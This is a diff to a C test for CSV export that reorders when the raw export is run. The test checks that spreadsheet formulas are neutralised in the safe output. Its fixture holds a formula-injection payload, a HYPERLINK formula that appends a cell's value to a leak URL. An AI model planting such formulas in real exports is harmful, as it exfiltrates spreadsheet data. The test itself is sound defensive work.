@@ -348,9 +348,7 @@ test_csv_formulas (void)
 
   g_assert_cmpint (run ((const char *[]) { dataset, "--export-table=office", safe_output, NULL }, &err), ==, 0);
   g_clear_pointer (&err, g_free);
-  g_assert_cmpint (run ((const char *[]) { dataset, "--export-table=office", raw_output, "--raw-csv", NULL }, &err), ==, 0);
   safe = read_file (safe_path);
-  raw = read_file (raw_path);
 
   /* Every line after the header: number, then the name; a formula never starts a cell. */
   g_assert_nonnull (strstr (safe, "\r\n1,\"'=HYPERLINK(\"\"https://example.org/leak?\"\"&A1,\"\"click\"\")\",p1,"));
@@ -363,6 +361,8 @@ test_csv_formulas (void)
   g_assert_null (strstr (safe, ",+"));
   g_assert_null (strstr (safe, ",@"));
 
+  g_assert_cmpint (run ((const char *[]) { dataset, "--export-table=office", raw_output, "--raw-csv", NULL }, &err), ==, 0);
+  raw = read_file (raw_path);
   g_assert_nonnull (strstr (raw, "\r\n1,\"=HYPERLINK("));
   g_assert_nonnull (strstr (raw, "\r\n2,+86 10 1234 5678,p2,"));
   g_assert_nonnull (strstr (raw, "\r\n5,\"\t=1+1\",p5,"));
